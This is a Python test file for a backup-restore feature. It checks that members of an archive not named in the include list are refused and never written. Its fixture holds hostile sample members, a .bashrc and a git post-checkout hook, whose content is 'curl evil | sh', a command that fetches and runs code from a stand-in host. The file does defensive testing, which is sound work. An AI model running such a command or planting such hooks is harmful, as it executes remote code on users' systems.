"""A restore writes only what `backups.include` names; the rest is shown as refused."""

from __future__ import annotations

from pathlib import Path

from primetui.backups.service import BackupService
from primetui.plans.plan import execute
from primetui.sandbox.gpg import GpgHome
from tests.hostile.backup_helpers import (
    PASSPHRASE,
    cli,
    dir_info,
    encrypt_by_hand,
    file_info,
    tar_gz,
    tree,
)

HOSTILE = [(file_info(".env"), b"RESTORED=1\n"),
           (file_info(".bashrc"), b"curl evil | sh\n"),
           (dir_info(".git"), b""), (dir_info(".git/hooks"), b""),
           (file_info(".git/hooks/post-checkout", 0o755), b"#!/bin/sh\ncurl evil | sh\n"),
           (dir_info("app"), b""), (file_info("app/main.py"), b"print('replaced')\n")]


def test_members_outside_the_include_list_are_refused_and_never_written(
        service: BackupService, gpg_home: GpgHome, tmp_path: Path) -> None:
    project = Path(service.config.source)
    (project / "app").mkdir()
    (project / "app" / "main.py").write_text("print('mine')\n")
    archive = encrypt_by_hand(gpg_home, tar_gz(HOSTILE), tmp_path / "mixed.tar.gz.gpg")
    preview = service.preview_restore(archive, PASSPHRASE)
    assert set(preview.refused) == {".bashrc", ".git/", ".git/hooks/", ".git/hooks/post-checkout",
                                    "app/", "app/main.py"}
    assert preview.scope == (".env",)
    assert any(line.startswith("  ! .bashrc  (refused") for line in preview.lines())
    result = execute(service.restore_plan(preview, PASSPHRASE))
    assert result.ok, result.error
    assert (project / ".env").read_text() == "RESTORED=1\n"
    assert not (project / ".bashrc").exists()
    assert not (project / ".git" / "hooks" / "post-checkout").exists()
    assert (project / "app" / "main.py").read_text() == "print('mine')\n"
    assert [p.name for p in project.iterdir() if p.name.startswith(".primetui")] == []


def test_an_archive_holding_only_an_empty_app_dir_deletes_nothing(
        service: BackupService, gpg_home: GpgHome, tmp_path: Path) -> None:
    project = Path(service.config.source)
    (project / "app").mkdir()
    (project / "app" / "main.py").write_text("print('mine')\n")
    before = tree(project)
    archive = encrypt_by_hand(gpg_home, tar_gz([(dir_info("app"), b"")]),
                              tmp_path / "empty-app.tar.gz.gpg")
    preview = service.preview_restore(archive, PASSPHRASE)
    assert preview.refused == ("app/",) and preview.scope == ()
    assert not (preview.changes.added or preview.changes.changed or preview.changes.removed)
    execute(service.restore_plan(preview, PASSPHRASE))
    assert tree(project) == before


def test_a_pattern_inside_a_directory_restores_only_that_part(
        gpg_home: GpgHome, tmp_path: Path, sample_project: Path) -> None:
    from tests.hostile.backup_helpers import make_service

    service = make_service(sample_project, gpg_home, tmp_path, include=["config/nginx/*.conf"])
    (sample_project / "config" / "keep.toml").write_text("kept\n")
    archive = encrypt_by_hand(gpg_home, tar_gz([
        (dir_info("config"), b""), (dir_info("config/nginx"), b""),
        (file_info("config/nginx/site.conf"), b"server {}\n"),
        (file_info("config/other.toml"), b"x\n")]), tmp_path / "partial.tar.gz.gpg")
    preview = service.preview_restore(archive, PASSPHRASE)
    assert preview.scope == ("config/nginx/site.conf",)
    assert preview.refused == ("config/other.toml",)
    assert execute(service.restore_plan(preview, PASSPHRASE)).ok
    assert (sample_project / "config" / "keep.toml").read_text() == "kept\n"
    assert (sample_project / "config" / "nginx" / "site.conf").read_text() == "server {}\n"


def test_the_cli_preview_lists_the_refused_members(cli_env: dict[str, str], gpg_home: GpgHome,
                                                   tmp_path: Path, secret_file: Path) -> None:
    archive = encrypt_by_hand(gpg_home, tar_gz(HOSTILE), tmp_path / "mixed.tar.gz.gpg")
    out = cli(cli_env, "backup", "restore", str(archive), "--dry-run",
              "--passphrase-file", str(secret_file))
    assert out.returncode == 0, out.stderr
    text = out.stdout.decode()
    assert "6 refused" in text
    assert "  ! .git/hooks/post-checkout  (refused: not in backups.include)" in text


def test_the_tabs_preview_lists_the_refused_members(service: BackupService, gpg_home: GpgHome,
                                                    tmp_path: Path) -> None:
    from primetui.ui.tabs.backups.preview import preview_rows, preview_summary

    archive = encrypt_by_hand(gpg_home, tar_gz(HOSTILE), tmp_path / "mixed.tar.gz.gpg")
    preview = service.preview_restore(archive, PASSPHRASE)
    rows = preview_rows(preview)
    assert ("refused", ".bashrc", "not in backups.include: left out") in rows
    assert "6 refused" in preview_summary(preview)
    plan = service.restore_plan(preview, PASSPHRASE)
    assert any(cmd.endswith("-- .env") for step in plan.steps for cmd in step.commands)
